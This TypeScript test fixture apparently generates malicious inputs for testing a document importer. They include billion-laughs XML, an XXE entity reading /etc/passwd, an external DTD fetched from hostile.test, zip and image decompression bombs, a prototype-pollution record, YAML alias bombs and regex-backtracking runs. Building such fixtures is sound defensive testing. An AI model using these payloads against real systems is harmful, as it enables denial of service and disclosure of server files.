import { deflateSync, gzipSync } from 'node:zlib';
import { strToU8, zipSync } from 'fflate';
import sharp from 'sharp';

/** Small inputs that ask for much work: a name, and the files that are imported. */
export interface Bomb {
  readonly name: string;
  /** Files by name; made when they are needed. */
  readonly files: () => Promise<Files> | Files;
  /** Where they lie: inputs of an import, or files of the archive itself below `content/`. */
  readonly within?: 'import' | 'content';
}

type Files = Readonly<Record<string, string | Uint8Array>>;

const SENTENCE = 'فتحت المكتبة أبوابها للقراء بعد ترميم طويل، وعاد إليها الزوار من كل حي.';
const times = (count: number, of: string | ((at: number) => string)) =>
  typeof of === 'string' ? of.repeat(count) : Array.from({ length: count }, (_, at) => of(at)).join('');
const page = (inside: string, head = '') =>
  `<!doctype html><html lang="ar"><head><meta charset="utf-8"><title>صفحة من الأرشيف</title>${head}</head><body><article><h1>صفحة من الأرشيف</h1><time datetime="2023-05-06">2023-05-06</time><p>${SENTENCE}</p>${inside}<p>${SENTENCE}</p></article></body></html>`;
const html = (name: string, inside: () => string, head?: () => string): Bomb => ({
  name: `html: ${name}`,
  files: () => ({ 'bomb.html': page(inside(), head?.()) }),
});
const markdown = (name: string, text: () => string, head = ''): Bomb => ({
  name: `markdown: ${name}`,
  files: () => ({
    'bomb.md': `---\ntitle: صفحة من الأرشيف\ndate: 2023-05-06\n${head}---\n\n${SENTENCE}\n\n${text()}\n\n${SENTENCE}\n`,
  }),
});
const yaml = (name: string, head: () => string): Bomb => ({
  name: `yaml: ${name}`,
  files: () => ({ 'bomb.md': `---\ntitle: صفحة من الأرشيف\n${head()}\n---\n\n${SENTENCE}\n` }),
});
const text = (name: string, body: () => string): Bomb => ({
  name: `text: ${name}`,
  files: () => ({ 'bomb.txt': `صفحة من الأرشيف\n\n${SENTENCE}\n\n${body()}\n` }),
});
const file = (name: string, path: string, content: () => string | Uint8Array): Bomb => ({
  name,
  files: () => ({ [path]: content() }),
});
const record = (name: string, more: () => string): Bomb =>
  file(
    `json: ${name}`,
    'bomb.jsonl',
    () => `{"title":"صفحة من الأرشيف","published":"2023-05-06","text":"${SENTENCE}"${more()}}\n`,
  );
const feed = (inside: string, doctype = '') =>
  `<?xml version="1.0" encoding="utf-8"?>${doctype}<rss version="2.0" xmlns:content="http://purl.org/rss/1.0/modules/content/"><channel><title>خلاصة</title>${inside}</channel></rss>`;
const item = (body: string, more = '') =>
  `<item><title>صفحة من الأرشيف</title><link>https://feed.example/1</link><pubDate>Sat, 06 May 2023 08:00:00 GMT</pubDate>${more}<description>${body}</description></item>`;
const xml = (name: string, content: () => string): Bomb => file(`xml: ${name}`, 'bomb.xml', content);

const LAUGHS = `<!DOCTYPE rss [<!ENTITY a "ha">${times(
  12,
  (at) => `<!ENTITY ${String.fromCharCode(98 + at)} "${`&${String.fromCharCode(97 + at)};`.repeat(10)}">`,
)}]>`;

const HTML: readonly Bomb[] = [
  html('entities ×100,000', () => times(100_000, '&nbsp;&amp;')),
  html('divs within each other ×100,000', () => times(100_000, '<div>')),
  html('unclosed formatting before paragraphs ×5,000', () => times(5000, (at) => `<p><b id=${at}>ص`)),
  html('unclosed fonts with other colours ×20,000', () => times(20_000, (at) => `<font color=${at}>ص`)),
  html('anchors in tables ×20,000', () => times(20_000, '<table><a>ص')),
  html('tables within each other ×20,000', () => times(20_000, '<table><tr><td>ص')),
  html('lists within each other ×50,000', () => times(50_000, '<ul><li>ص')),
  html('quotes within each other ×50,000', () => times(50_000, '<blockquote>ص')),
  html('drawings within each other ×50,000', () => times(50_000, '<svg><g>')),
  html('attributes ×100,000', () => `<p ${times(100_000, (at) => `a${at}=1 `)}>ص</p>`),
  html('attribute of 10 million letters', () => `<p title="${times(10_000_000, 'ص')}">ص</p>`),
  html('comments that do not end ×300,000', () => times(300_000, '<!--')),
  html('signs that begin tags ×1,000,000', () => times(1_000_000, '<')),
  html('ends of nothing ×500,000', () => times(500_000, '</p>')),
  html('cells ×100,000', () => `<table>${times(1000, `<tr>${times(100, '<td>ص')}`)}</table>`),
  html(
    'cells over a million rows',
    () => `<table>${times(300, '<tr><td colspan=1000000 rowspan=1000000>ص</td></tr>')}</table>`,
  ),
  html('links ×100,000', () => times(100_000, (at) => `<a href="/${at}">ص</a> `)),
  html('pictures ×50,000', () => times(50_000, (at) => `<img src="p${at}.png">`)),
  html('headings ×30,000', () => times(30_000, (at) => `<h2>ص${at}</h2>`)),
  html('breaks ×200,000', () => times(200_000, 'ص<br>')),
  html('paragraphs of one letter ×50,000', () => times(50_000, '<p>ص</p>')),
  html('spans within a word ×50,000', () => times(50_000, '<span>ص</span>')),
  html('bold letters ×25,000', () => times(25_000, '<b>ص</b>ص')),
  html('footnotes ×20,000', () => times(20_000, (at) => `<sup><a href="#f${at}">${at}</a></sup>`)),
  html('times ×30,000', () => times(30_000, '<time datetime="2020-01-01">1 يناير 2020</time> ')),
  html('classes ×100,000', () => `<div class="${times(100_000, (at) => `c${at} `)}">ص</div>`),
  html(
    'a script of 20 MB',
    () => '',
    () => `<script>${times(1_000_000, 'var a = "<p>";\n')}</script>`,
  ),
  html(
    'JSON-LD within itself ×100,000',
    () => '',
    () => `<script type="application/ld+json">${times(100_000, '[')}${times(100_000, ']')}</script>`,
  ),
  html(
    'JSON-LD of 50,000 parts',
    () => '',
    () =>
      `<script type="application/ld+json">{"@graph":[${times(50_000, '{"@type":"NewsArticle","headline":"ص"},')}{}]}</script>`,
  ),
  html(
    'metadata ×50,000',
    () => '',
    () => times(50_000, (at) => `<meta property="article:tag" content="وسم${at}">`),
  ),
  html('a title of a million letters', () => `<h1>${times(1_000_000, 'عنوان ')}</h1>`),
  html(
    'a picture within the page of 30 MB',
    () => `<img src="data:image/png;base64,${times(40_000_000, 'A')}">`,
  ),
  html('frames ×20,000', () => times(20_000, '<iframe src="https://a.example/">')),
  html('hidden parts ×30,000', () => times(30_000, '<div style="display:none">ص</div>')),
  html('options ×50,000', () => `<select>${times(50_000, '<option>ص')}`),
  html('rubies ×20,000', () => times(20_000, '<ruby>ص<rt>ص')),
  html('words without spaces, 2 million letters', () => `<p>${times(2_000_000, 'صفحة')}</p>`),
  html('marks on one letter ×500,000', () => `<p>ص${times(500_000, '\u0651')}</p>`), // SHADDA
];

const XML: readonly Bomb[] = [
  xml('entities of entities', () => feed(item('&m;'), LAUGHS)),
  xml('one entity of 100,000 letters ×10,000', () =>
    feed(item(times(10_000, '&a;')), `<!DOCTYPE rss [<!ENTITY a "${times(100_000, 'ص')}">]>`),
  ),
  xml('a file of the machine', () =>
    feed(item('قبل &x; بعد'), '<!DOCTYPE rss [<!ENTITY x SYSTEM "file:///etc/passwd">]>'),
  ),
  xml('a parameter entity from outside', () =>
    feed(item('ص'), '<!DOCTYPE rss [<!ENTITY % x SYSTEM "https://hostile.test/x.dtd"> %x;]>'),
  ),
  xml('entities declared ×100,000', () =>
    feed(item('ص'), `<!DOCTYPE rss [${times(100_000, (at) => `<!ENTITY e${at} "ص">`)}]>`),
  ),
  xml('elements within each other ×200,000', () => feed(`${times(200_000, '<a>')}`)),
  xml('attributes ×100,000', () => feed(`<item ${times(100_000, (at) => `a${at}="1" `)}/>`)),
  xml('namespaces ×50,000', () => feed(times(50_000, (at) => `<a xmlns:n${at}="x"/>`))),
  xml('empty items ×100,000', () => feed(times(100_000, '<item></item>'))),
  xml('categories ×100,000', () =>
    feed(
      item(
        SENTENCE,
        times(100_000, (at) => `<category>وسم${at}</category>`),
      ),
    ),
  ),
  xml('a section of CDATA that does not end', () => feed(`<item><![CDATA[${times(3_000_000, ']]')}`)),
  xml('text of 30 MB', () => feed(item(times(3_000_000, 'ص فحة ')))),
  xml('shortcodes ×50,000', () =>
    feed(item(`<![CDATA[${times(50_000, '[caption id="1"]')}]]>`)).replace(
      '<rss ',
      '<rss xmlns:wp="http://wordpress.org/export/1.2/" ',
    ),
  ),
];

const JSON_BOMBS: readonly Bomb[] = [
  record('lists within each other ×500,000', () => `,"more":${times(500_000, '[')}${times(500_000, ']')}`),
  record(
    'objects within each other ×200,000',
    () => `,"a":${times(200_000, '{"a":')}1${times(200_000, '}')}`,
  ),
  record('keys ×300,000', () => times(300_000, (at) => `,"k${at}":1`)),
  record('tags ×200,000', () => `,"tags":[${times(200_000, (at) => `"وسم${at}",`)}""]`),
  record('a prototype', () => ',"__proto__":{"title":"x"},"constructor":{"prototype":{"title":"x"}}'),
  record('an address of a million letters', () => `,"url":"https://a.example/${times(1_000_000, 'x')}"`),
  record('a title of a million letters', () => `,"title":"${times(200_000, 'عنوان')}"`),
  file('json: a list of a million nothings', 'bomb.json', () => `[${times(1_000_000, '{},')}{}]`),
  file('json: cut in the middle of 10 MB', 'bomb.json', () => `[{"text":"${times(10_000_000, 'x')}`),
  file('json: lines of nothing ×300,000', 'bomb.jsonl', () => times(300_000, '{}\n')),
  file('csv: columns ×300,000', 'bomb.csv', () => `title,text,${times(300_000, (at) => `c${at},`)}\nص,ص\n`),
  file(
    'csv: a quote that does not end',
    'bomb.csv',
    () => `title,text\n"ص,${times(1_000_000, 'كلمة "" , \n')}`,
  ),
  file('csv: quotes ×5,000,000', 'bomb.csv', () => `title,text\n${times(5_000_000, '"')}\n`),
];

const MARKDOWN: readonly Bomb[] = [
  markdown('pictures begun ×50,000', () => times(50_000, '![[')),
  markdown('links begun ×50,000', () => times(50_000, '[a](')),
  markdown('boxes ×20,000', () => times(20_000, ':::note\n')),
  markdown('lists within each other ×100,000', () => times(100_000, '- ')),
  markdown('quotes within each other ×1,000,000', () => times(1_000_000, '>')),
  markdown('stars ×49,000', () => times(24_500, '*ص*')),
  markdown('stars begun ×49,000', () => times(24_500, '**ص ')),
  markdown('stars and lines begun in turn', () => times(12_000, '*a **a _a __a ')),
  markdown('code of every length', () => times(600, (at) => `${'`'.repeat(at + 1)} `)),
  markdown('tags begun ×4,900', () => times(4900, '<a ')),
  markdown('comments begun ×4,900', () => times(4900, '<!--')),
  markdown('processing begun ×4,900', () => times(4900, '<?')),
  markdown('declarations begun ×4,900', () => times(4900, '<!A ')),
  markdown('definitions ×50,000', () => times(50_000, (at) => `[a${at}]: /b\n`)),
  markdown('one definition ×50,000', () => times(50_000, '[a]: /b\n')),
  markdown('definitions of titles begun', () => times(20_000, '[a]: b "c\n')),
  markdown('footnotes ×20,000', () => times(20_000, (at) => `[^${at}]: ص\n\n`)),
  markdown('definitions between paragraphs ×50,000', () => times(50_000, (at) => `[a${at}]: /b${at}\n\n`)),
  markdown(
    'footnotes below the limit',
    () => times(4900, (at) => `ص[^${at}]\n\n`) + times(4900, (at) => `[^${at}]: ص\n\n`),
  ),
  markdown('references to one footnote ×1,900', () => `${times(1900, 'ص[^1] ')}\n\n[^1]: ص`),
  markdown(
    'cells ×100,000',
    () => `${times(100, '|ص')}|\n${times(100, '|-')}|\n${times(1000, `${times(100, '|ص')}|\n`)}`,
  ),
  markdown('a table with one wide row', () => `|a|\n|-|\n${times(29_000, '|')}`),
  markdown('columns ×20,000', () => `${times(20_000, '|a')}|\n${times(20_000, '|-')}|\n|a|\n|a|\n|a|\n`),
  markdown('addresses ×50,000', () => times(50_000, 'www.a.example ')),
  markdown('an address of a million letters', () => `www.a.example/${times(1_000_000, '(')}`),
  markdown('addresses of mail begun', () => times(100_000, 'a@a.')),
  markdown('addresses of mail, one long', () => `${times(300_000, 'a.')}@a`),
  markdown('back slashes ×500,000', () => times(500_000, '\\')),
  markdown('entities ×100,000', () => times(100_000, '&amp;')),
  markdown('entities begun ×500,000', () => times(500_000, '&')),
  markdown('lines of heading marks ×50,000', () => times(50_000, '#\n')),
  markdown('underlines ×100,000', () => times(100_000, 'a\n=\n')),
  markdown('numbered lists ×50,000', () => times(50_000, (at) => `${at}. ص\n`)),
  markdown('a list of empty points ×50,000', () => times(50_000, '*\n')),
  markdown('deep indents', () => times(400, (at) => `${' '.repeat(at * 2)}- ص\n`)),
  markdown('fences within each other', () => times(3000, (at) => `${'`'.repeat(at + 3)}\n`)),
  markdown('attributes of a box ×50,000', () => `:::note{${times(50_000, (at) => `a${at}=b `)}}\nص\n:::`),
  markdown('boxes with names begun', () => `::note[${times(1900, '[')}`),
  markdown('spaces ×200,000', () => `ص${' '.repeat(200_000)}ص`),
  markdown('tabs ×200,000', () => `ص${'\t'.repeat(200_000)}ص`),
  markdown('no-break spaces ×500,000', () => `ص${'\u00A0'.repeat(500_000)}ص`), // NO-BREAK SPACE
  markdown('line ends ×1,000,000', () => '\n'.repeat(1_000_000)),
  markdown('carriage returns ×500,000', () => '\r'.repeat(500_000)),
  markdown('one word of 2 million letters', () => 'ص'.repeat(2_000_000)),
  markdown('a word of joined letters ×300,000', () => 'ص\u200D'.repeat(300_000)), // ZERO WIDTH JOINER
  markdown('overrides ×100,000', () => '\u202Eص'.repeat(100_000)), // RIGHT-TO-LEFT OVERRIDE
  markdown('isolates ×100,000', () => '\u2067ص'.repeat(100_000)), // RIGHT-TO-LEFT ISOLATE
  markdown('Latin and Arabic in turn ×100,000', () => 'a ص '.repeat(100_000)),
  markdown('quotation marks ×200,000', () => '"ص '.repeat(100_000)),
  markdown('brackets of words ×100,000', () => '(ص '.repeat(100_000)),
  markdown('numbers ×200,000', () => '1.2,'.repeat(200_000)),
  markdown('dates ×100,000', () => '1 كانون الثاني 2020 '.repeat(50_000)),
  markdown('words that differ ×200,000', () => times(200_000, (at) => `كلمة${at.toString(36)} `)),
  markdown('dashes ×500,000', () => `ص ${'-'.repeat(500_000)}`),
  markdown('points ×500,000', () => `ص ${'.'.repeat(500_000)}`),
  markdown('kashida ×500,000', () => `ص${'\u0640'.repeat(500_000)}`), // TATWEEL
  markdown('pieces of HTML ×50,000', () => times(50_000, '<b>ص</b>\n\n')),
  markdown('elements of HTML within each other', () => times(20_000, '<div>\n')),
  markdown('ends of links ×100,000', () => times(100_000, 'a]')),
  markdown('a Latin word of 200,000 letters', () => times(100_000, 'ab')),
  markdown('unclosed formatting of HTML', () => times(2400, (at) => `<p><b id=${at}>ص\n\n`)),
];

const YAML: readonly Bomb[] = [
  yaml('aliases of aliases', () =>
    [
      `a0: &a0 [${times(9, 'x,')}x]`,
      ...Array.from({ length: 12 }, (_, at) => `a${at + 1}: &a${at + 1} [${times(9, `*a${at},`)}*a${at}]`),
    ].join('\n'),
  ),
  yaml(
    'aliases of aliases as topics',
    () =>
      `topics: [&a0 [${times(9, 'x,')}x]${times(8, (at) => `, &a${at + 1} [${times(9, `*a${at},`)}*a${at}]`)}]`,
  ),
  yaml('merged keys', () =>
    [
      `a0: &a0 {x: 1}`,
      ...Array.from(
        { length: 20 },
        (_, at) => `a${at + 1}: &a${at + 1} {<<: [${times(9, `*a${at},`)}*a${at}]}`,
      ),
    ].join('\n'),
  ),
  yaml('an alias of itself', () => 'a: &a [*a]'),
  yaml('lists within each other ×50,000', () => `a: ${times(50_000, '[')}`),
  yaml('lists in blocks within each other', () => `a:\n  ${times(20_000, '- ')}x`),
  yaml('keys within each other', () => times(900, (at) => `${' '.repeat(at)}k:\n`)),
  yaml('keys ×50,000', () => times(50_000, (at) => `k${at}: 1\n`)),
  yaml('topics ×50,000', () => `topics: [${times(50_000, (at) => `t${at}, `)}x]`),
  yaml('a quoted text of 900,000 letters', () => `summary: "${times(450_000, '\\n')}"`),
  yaml('questions ×50,000', () => times(50_000, '? ')),
  yaml('tags ×50,000', () => `a: ${times(50_000, '!!')}x`),
  yaml('anchors ×50,000', () => times(50_000, (at) => `k${at}: &a${at} 1\n`)),
  yaml('line ends in a folded text', () => `summary: >\n${'\n'.repeat(500_000)}`),
  yaml('spaces ×500,000', () => `summary: ${' '.repeat(500_000)}x`),
  yaml('a comment of 900,000 letters', () => `# ${'#'.repeat(900_000)}`),
  yaml('a number of 500,000 digits', () => `order: ${'1'.repeat(500_000)}`),
  yaml('a date of 500,000 digits', () => `date: 2020-01-${'1'.repeat(500_000)}`),
];

const TEXT: readonly Bomb[] = [
  text('one line of 20 million letters', () => 'كلمة '.repeat(4_000_000)),
  text('lines of one letter ×500,000', () => 'ص\n'.repeat(500_000)),
  text('paragraphs of one letter ×200,000', () => 'ص\n\n'.repeat(200_000)),
  text('one word of 10 million letters', () => 'ص'.repeat(10_000_000)),
  text('nothing but nulls, 5 MB', () => '\0'.repeat(5_000_000)),
  text('spaces, 5 MB', () => ' '.repeat(5_000_000)),
  text('line ends, 5 MB', () => '\n'.repeat(5_000_000)),
  text('signs of every kind', () =>
    times(60_000, (at) => String.fromCodePoint(33 + ((at * 7) % 50_000)).toWellFormed()),
  ),
  text('bylines ×20,000', () => 'بقلم: محمد\n'.repeat(20_000)),
  text('boilerplate ×50,000', () => 'اقرأ أيضا: خبر\n[ad_1]\nالمصدر: وكالة\n\n'.repeat(20_000)),
  text('addresses ×100,000', () => 'https://a.example/x '.repeat(100_000)),
];

const ZIPS: readonly Bomb[] = [
  file('zip: files ×60,000', 'bomb.zip', () =>
    zipSync(
      Object.fromEntries(Array.from({ length: 60_000 }, (_, at) => [`a/${at}.txt`, strToU8(`عنوان ${at}`)])),
      { level: 0 },
    ),
  ),
  file('zip: a gigabyte of nothing', 'bomb.zip', () =>
    zipSync({ 'a.txt': new Uint8Array(2 ** 30) }, { level: 6 }),
  ),
  file('zip: zips within each other', 'bomb.zip', () => {
    let inner = zipSync({ 'a.txt': new Uint8Array(2 ** 24) });
    for (let depth = 0; depth < 9; depth++)
      inner = zipSync(Object.fromEntries(Array.from({ length: 8 }, (_, at) => [`${at}.zip`, inner])));
    return inner;
  }),
  file('zip: a folder within a folder ×10,000', 'bomb.zip', () =>
    zipSync({
      [`${'a/'.repeat(10_000)}b.html`]: strToU8(page('')),
      [`${'ب/'.repeat(3000)}p.png`]: strToU8('x'),
    }),
  ),
  file('zip: a name of 60,000 letters', 'bomb.zip', () =>
    zipSync({ [`${'a'.repeat(60_000)}.html`]: strToU8(page('')) }),
  ),
  file('gzip: a gigabyte of nothing', 'bomb.jsonl.gz', () => gzipSync(new Uint8Array(2 ** 30))),
  file('docx: a gigabyte of nothing', 'bomb.docx', () =>
    zipSync({ 'word/document.xml': new Uint8Array(2 ** 30), '[Content_Types].xml': strToU8('<Types/>') }),
  ),
  file('docx: entities of entities', 'bomb.docx', () =>
    zipSync({
      '[Content_Types].xml': strToU8('<Types/>'),
      'word/document.xml': strToU8(
        `<?xml version="1.0"?>${LAUGHS.replace('DOCTYPE rss', 'DOCTYPE w:document')}<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body><w:p><w:r><w:t>&m;</w:t></w:r></w:p></w:body></w:document>`,
      ),
    }),
  ),
  file('docx: tables within each other ×10,000', 'bomb.docx', () =>
    zipSync({
      '[Content_Types].xml': strToU8('<Types/>'),
      'word/document.xml': strToU8(
        `<?xml version="1.0"?><w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body>${times(10_000, '<w:tbl><w:tr><w:tc>')}<w:p><w:r><w:t>ص</w:t></w:r></w:p>${times(10_000, '</w:tc></w:tr></w:tbl>')}</w:body></w:document>`,
      ),
    }),
  ),
  file('epub: a gigabyte of nothing', 'bomb.epub', () =>
    zipSync({
      mimetype: [strToU8('application/epub+zip'), { level: 0 }],
      'META-INF/container.xml': strToU8(
        '<container xmlns="urn:oasis:names:tc:opendocument:xmlns:container"><rootfiles><rootfile full-path="a.opf"/></rootfiles></container>',
      ),
      'a.opf': new Uint8Array(2 ** 30),
    }),
  ),
  file(
    'mhtml: parts within each other',
    'bomb.mhtml',
    () =>
      `From: <x>\nMIME-Version: 1.0\n${times(3000, (at) => `Content-Type: multipart/related; boundary="b${at}"\n\n--b${at}\n`)}`,
  ),
  file(
    'mhtml: headers ×200,000',
    'bomb.mhtml',
    () =>
      `From: <x>\nMIME-Version: 1.0\n${times(200_000, (at) => `X-${at}: a\n`)}Content-Type: multipart/related; boundary="b"\n\n--b\n`,
  ),
  file(
    'warc: a record that says a terabyte',
    'bomb.warc',
    () =>
      `WARC/1.0\r\nWARC-Type: response\r\nWARC-Target-URI: https://a.example/\r\nContent-Type: application/http; msgtype=response\r\nContent-Length: 1099511627776\r\n\r\nHTTP/1.1 200 OK\r\nContent-Type: text/html\r\n\r\n${page('')}`,
  ),
  file(
    'warc: headers ×200,000',
    'bomb.warc',
    () => `WARC/1.0\r\n${times(200_000, (at) => `X-${at}: a\r\n`)}\r\n`,
  ),
];

/** A PNG that says what it likes of its size: rows of nothing, packed. */
export function hugePng(
  width: number,
  height: number,
  { bits = 1, colour = 0, interlaced = false } = {},
): Uint8Array {
  const chunk = (type: string, data: Uint8Array) => {
    const body = Buffer.concat([Buffer.from(type, 'latin1'), data]);
    const out = Buffer.alloc(body.length + 8);
    out.writeUInt32BE(data.length);
    body.copy(out, 4);
    out.writeUInt32BE(crc(body), body.length + 4);
    return out;
  };
  const head = Buffer.alloc(13);
  head.writeUInt32BE(width);
  head.writeUInt32BE(height, 4);
  head.set([bits, colour, 0, 0, interlaced ? 1 : 0], 8);
  const channels = ({ 0: 1, 2: 3, 6: 4 } as Record<number, number>)[colour] ?? 1;
  const row = 1 + Math.ceil((width * bits * channels) / 8);
  const rows = deflateSync(Buffer.alloc(Math.min(row * height, 2 ** 31 - 1)));
  return Buffer.concat([
    Buffer.from('\x89PNG\r\n\x1a\n', 'latin1'),
    chunk('IHDR', head),
    chunk('IDAT', rows),
    chunk('IEND', Buffer.alloc(0)),
  ]);
}

function crc(bytes: Uint8Array): number {
  let value = -1;
  for (const byte of bytes) {
    value ^= byte;
    for (let bit = 0; bit < 8; bit++) value = (value >>> 1) ^ (value & 1 ? 0xedb88320 : 0);
  }
  return (value ^ -1) >>> 0;
}

const gifHead = (width: number, height: number) =>
  Buffer.from([
    ...Buffer.from('GIF89a'),
    width & 255,
    width >> 8,
    height & 255,
    height >> 8,
    0x80,
    0,
    0,
    0,
    0,
    0,
    255,
    255,
    255,
  ]);
const GIF_FRAME = (width: number, height: number) =>
  Buffer.from([
    0x21,
    0xf9,
    4,
    0,
    1,
    0,
    0,
    0,
    0x2c,
    0,
    0,
    0,
    0,
    width & 255,
    width >> 8,
    height & 255,
    height >> 8,
    0,
    2,
    2,
    0x44,
    1,
    0,
  ]);

const SVG = 'xmlns="http://www.w3.org/2000/svg"';
const pictured = (
  name: string,
  picture: string,
  bytes: () => Promise<Uint8Array> | Uint8Array | string,
): Bomb => ({
  name: `picture: ${name}`,
  files: async () => ({ 'bomb.html': page(`<img src="${picture}">`), [picture]: await bytes() }),
});
const PICTURES: readonly Bomb[] = [
  pictured('PNG of 100,000 × 100,000', 'p.png', () => hugePng(100_000, 1000)),
  pictured('PNG that says 65,000 × 65,000', 'p.png', () => {
    const png = Buffer.from(hugePng(64, 64));
    png.writeUInt32BE(65_000, 16);
    png.writeUInt32BE(65_000, 20);
    png.writeUInt32BE(crc(png.subarray(12, 29)), 29);
    return png;
  }),
  pictured('PNG of 14,000 × 14,000 in four colours of 16 bits, interlaced', 'p.png', () =>
    hugePng(14_000, 14_000, { bits: 16, colour: 6, interlaced: true }),
  ),
  pictured('PNG of 14,000 × 14,000', 'p.png', () => hugePng(14_000, 14_000, { bits: 8, colour: 6 })),
  pictured('WebP of 14,000 × 14,000', 'p.webp', () =>
    sharp({ create: { width: 14_000, height: 14_000, channels: 3, background: '#357' } })
      .webp({ effort: 0 })
      .toBuffer(),
  ),
  pictured('AVIF of 12,000 × 12,000', 'p.avif', () =>
    sharp({ create: { width: 12_000, height: 12_000, channels: 3, background: '#357' } })
      .avif({ effort: 0 })
      .toBuffer(),
  ),
  pictured('JPEG of 14,000 × 14,000, progressive', 'p.jpg', () =>
    sharp({ create: { width: 14_000, height: 14_000, channels: 3, background: '#357' } })
      .jpeg({ progressive: true })
      .toBuffer(),
  ),
  pictured('GIF of 65,000 × 65,000', 'p.gif', () =>
    Buffer.concat([gifHead(65_000, 65_000), GIF_FRAME(65_000, 65_000), Buffer.from([0x3b])]),
  ),
  pictured('GIF of 100,000 frames', 'p.gif', () =>
    Buffer.concat([
      gifHead(500, 500),
      ...Array.from({ length: 100_000 }, () => GIF_FRAME(500, 500)),
      Buffer.from([0x3b]),
    ]),
  ),
  pictured('GIF of 14,000 × 14,000 in 50 frames', 'p.gif', () =>
    Buffer.concat([
      gifHead(14_000, 14_000),
      ...Array.from({ length: 50 }, () => GIF_FRAME(14_000, 14_000)),
      Buffer.from([0x3b]),
    ]),
  ),
  pictured(
    'SVG of a hundred million points',
    'p.svg',
    () => `<svg ${SVG} width="1e9" height="1e9"><path d="M0 0h1"/></svg>`,
  ),
  pictured(
    'SVG: elements within each other ×100,000',
    'p.svg',
    () => `<svg ${SVG} width="9" height="9">${times(100_000, '<g>')}${times(100_000, '</g>')}</svg>`,
  ),
  pictured(
    'SVG: entities of entities',
    'p.svg',
    () =>
      `${LAUGHS.replace('DOCTYPE rss', 'DOCTYPE svg')}<svg ${SVG} width="9" height="9"><text>&m;</text></svg>`,
  ),
  pictured(
    'SVG: one entity of 100,000 letters ×20,000',
    'p.svg',
    () =>
      `<!DOCTYPE svg [<!ENTITY a "${times(100_000, 'x')}">]><svg ${SVG} width="9" height="9"><text>${times(20_000, '&a;')}</text></svg>`,
  ),
  pictured(
    'SVG: addresses begun in a style ×200,000',
    'p.svg',
    () => `<svg ${SVG} width="9" height="9"><style>${times(200_000, 'url(')}</style></svg>`,
  ),
  pictured(
    'SVG: use of use',
    'p.svg',
    () =>
      `<svg ${SVG} width="9" height="9"><g id="a0"><path d="M0 0h1"/></g>${times(30, (at) => `<g id="a${at + 1}">${times(9, `<use href="#a${at}"/>`)}</g>`)}<use href="#a30"/></svg>`,
  ),
  pictured(
    'SVG: attributes ×50,000',
    'p.svg',
    () => `<svg ${SVG} width="9" height="9" ${times(50_000, (at) => `data-a${at}="1" `)}/>`,
  ),
  pictured(
    'SVG of 30 MB',
    'p.svg',
    () => `<svg ${SVG} width="9" height="9">${times(1_000_000, '<path d="M0 0h1"/>')}</svg>`,
  ),
];

// Of each, many in a row and then another sign: patterns that end in `+$` go over them once for each.
const SIGNS =
  ' \t\n\u00A0\u200C\u0640\u0651-_.,:;!?/\\#@&%$+*=~^|`\'"()[]{}<>0٣aصA\u061F\u060C\u00AB\u2026\u200F\u2067é'; // TATWEEL, SHADDA, ARABIC QUESTION MARK and COMMA, RIGHT-TO-LEFT MARK and ISOLATE
const RUN = 200_000;
const runs = (make: (run: string, at: number) => string) =>
  [...SIGNS].map((sign, at) => make(`${sign.repeat(RUN)}ب`, at));
const inText = (run: string) => run.replaceAll('&', '&amp;').replaceAll('<', '&lt;');
const RUNS: readonly Bomb[] = [
  {
    name: 'runs: texts in JSON',
    files: () => ({
      'bomb.jsonl': runs((run, at) =>
        JSON.stringify({ title: `مقال ${at}`, published: '2023-05-06', text: `${SENTENCE}\n\nب${run}` }),
      ).join('\n'),
    }),
  },
  ...['title', 'author', 'url', 'summary', 'section', 'published', 'tags', 'source', 'image', 'subtitle'].map(
    (key): Bomb => ({
      name: `runs: ${key} in JSON`,
      files: () => ({
        'bomb.jsonl': runs((run, at) =>
          JSON.stringify({
            title: `مقال ${at}`,
            published: '2023-05-06',
            text: `${SENTENCE} ${at}`,
            [key]: `ب${run}`,
          }),
        ).join('\n'),
      }),
    }),
  ),
  {
    name: 'runs: pages',
    files: () =>
      Object.fromEntries(
        runs((run) => page(`<p>ب${inText(run)}</p>`)).map((each, at) => [`${at}.html`, each]),
      ),
  },
  {
    name: 'runs: attributes of pages',
    files: () =>
      Object.fromEntries(
        runs((run) => {
          const value = inText(`ب${run}`).replaceAll('"', '&quot;');
          return page(
            `<p class="${value}" style="${value}">ص <a href="${value}">ص</a><img src="${value}" alt="${value}" srcset="${value}"><time datetime="${value}">${value}</time></p>`,
            `<meta name="author" content="${value}"><meta property="article:published_time" content="${value}"><meta property="og:title" content="${value}"><link rel="canonical" href="${value}">`,
          );
        }).map((each, at) => [`${at}.html`, each]),
      ),
  },
  {
    name: 'runs: Markdown',
    files: () =>
      Object.fromEntries(
        runs((run, at) => `---\ntitle: مقال ${at}\ndate: 2023-05-06\n---\n\n${SENTENCE}\n\nب${run}\n`).map(
          (each, at) => [`${at}.md`, each],
        ),
      ),
  },
  {
    name: 'runs: plain text',
    files: () =>
      Object.fromEntries(
        runs((run, at) => `مقال ${at}\n\n${SENTENCE}\n\nب${run}\n`).map((each, at) => [`${at}.txt`, each]),
      ),
  },
  {
    name: 'runs: feeds',
    files: () => ({
      'bomb.xml': feed(runs((run) => item(inText(inText(`<p>ب${inText(run)}</p>`)))).join('')),
    }),
  },
];

/** Every bomb by its class. */
export const BOMBS: readonly Bomb[] = [
  ...HTML,
  ...XML,
  ...JSON_BOMBS,
  ...MARKDOWN,
  ...YAML,
  ...TEXT,
  ...ZIPS,
  ...PICTURES,
  ...RUNS,
];
